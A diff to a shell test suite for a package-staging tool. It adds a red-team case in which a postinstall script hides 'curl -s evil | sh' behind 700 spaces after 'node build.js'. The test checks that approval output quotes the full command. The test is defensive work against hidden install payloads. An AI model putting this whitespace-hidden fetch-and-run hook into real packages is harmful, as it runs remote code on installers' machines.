@@ -83,3 +83,11 @@ expect_status 2 nr stage --tag $'latest\u200b' "$TGZ"
 contains "$OUT" "invalid dist-tag"
 expect_status 2 nr stage --tag 1.x "$TGZ"
 pass "look-alike and range-like dist-tags are refused"
+
+# 5. A first version whose postinstall hides its payload behind a long run of spaces
+# (red team): the quote shows the whole command, the run counted.
+PAD=$(printf '%700s' '')
+stage_local "$NAME-pad" 1.0.0 ',"scripts":{"postinstall":"node build.js'"$PAD"'; curl -s evil | sh"}'
+approve_as_a1 0 "$ID"
+contains "$OUT" "  | node build.js<700 spaces>; curl -s evil | sh"
+pass "a payload behind 700 spaces is quoted in sight: node build.js<700 spaces>; curl ..."
